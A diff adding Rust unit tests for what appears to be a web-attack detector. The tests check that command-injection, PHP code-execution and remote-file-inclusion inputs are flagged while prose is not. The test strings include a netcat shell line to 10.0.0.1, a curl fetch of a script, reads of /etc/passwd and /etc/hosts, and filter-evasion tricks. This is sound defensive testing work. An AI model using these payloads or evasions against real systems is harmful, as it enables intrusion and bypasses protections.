+        assert!(rce("env --version").is_some());
+        assert!(rce("curl http://x.example/a.sh").is_some());
+        assert!(rce("a=1&bcdboot /r file.txt").is_some());
+        // Evasions: empty substitutions, unset variables, glued quotes, empty brace items.
+        assert!(rce("pi``ng 127.0.0.1").is_some());
+        assert!(rce("ping$() 127.0.0.1").is_some());
+        assert!(rce(";$a cat /etc/hosts").is_some());
+        assert!(rce("'wh'oami;").is_some());
+        assert!(rce("{,cd,/etc,}").is_some());
+        // Bash expansions and builtins.
+        assert!(rce("$((1+2))").is_some());
+        assert!(rce("${path%/*}").is_some());
+        assert!(rce("alias ll='ls -al'").is_some());
+        assert!(rce("~-1").is_some());
+        assert!(rce("base64").is_none());
+        assert!(rce("!-1!-2").is_some());
+        // cmd.exe conditionals with quoted operands.
+        assert!(rce("if \"a a\" == \"a a\" echo same").is_some());
+        assert!(rce("if/i a==b foo").is_some());
+        assert!(rce("& for %- in (a,b,c) do cmd").is_some());
+        // SQLite and `.` after a separator.
+        assert!(rce(";\n.shell nc 10.0.0.1 6666 -e sh").is_some());
+        // Mail protocol commands after a line break.
+        assert!(rce("\r\nmail from:<a@b.com>").is_some());
+        assert!(rce("\r\nretr 123").is_some());
+        assert!(rce("\r\na001 examine inbox").is_some());
+        // Negatives: prose, code and ordinary values.
+        assert!(rce("python tutorial").is_none());
+        assert!(rce("i love the dev-ops way").is_none());
+        assert!(rce("that's o'keefe's").is_none());
+        assert!(rce("if (a == b) { x(); }").is_none());
+        assert!(rce("dear team,\r\nplease list the items\r\nthanks").is_none());
+        assert!(rce("see ~ you").is_none());
+        assert!(rce("wow!!!").is_none());
+        assert!(rce("${user.name}").is_none());
+        assert!(starts_with_command("time ifconfig"));
+        assert!(!starts_with_command("Mozilla/5.0 (X11; Linux x86_64)"));
+        assert!(!starts_with_command("curl/8.5.0"));
+    }
+
+    #[test]
+    fn php_grammar_additions() {
+        assert!(php("<?xml :echo 1;").is_some());
+        assert!(php("<?xml version=\"1.0\"?><a/>").is_none());
+        assert!(php("test<?").is_some());
+        assert!(php("phar://x.zip/a.txt").is_some());
+        assert!(php("compress.bzip2://file.bz2").is_some());
+        assert!(php("opcache.jit_max_polymorphic_calls=50").is_some());
+        assert!(php("array_diff (").is_some());
+        assert!(php("is_array()").is_some());
+        assert!(php("exec //comment\r\n (blah)").is_some());
+        assert!(php("$__[$_[1]](7)").is_some());
+        assert!(php("${@a}(10)").is_some());
+        assert!(php("(system)(ls);").is_some());
+        assert!(php("[system][0](ls);").is_some());
+        assert!(php("(string)\"sys\".\"tem\"('uname');").is_some());
+        assert!(php("$a{}()").is_none());
+        assert!(php("the \"system\" (as we know it)").is_none());
+        assert!(php("call me at 5 (maybe)").is_none());
+    }
+
+    #[test]
+    fn remote_urls() {
+        use crate::detect::web::Class;
+        let rfi = |n: &str, v: &str| {
+            url_param(n, v, Some("localhost"))
+                .iter()
+                .any(|(c, _, _)| *c == Class::Rfi)
+        };
+        assert!(rfi("x", "ftp://foo.bar"));
+        assert!(rfi("x", "file://foo.bar"));
+        assert!(rfi("x", "url:file:///etc/passwd"));
+        assert!(rfi("x", "jar:http://evil.co/b.zip!a"));
+        assert!(rfi("x", "gopher://google.com/_x"));
+        assert!(rfi("x", "https://example.com:1234/"));
+        assert!(rfi("x", "http://example.com/@evil.com/"));
+        assert!(!rfi("x", "https://example.com/page"));
+        assert!(!rfi("x", "file:///tmp/a"));
+        assert!(!rfi("x", "http://localhost:8080/"));
+    }
 
     #[test]
     fn classes() {
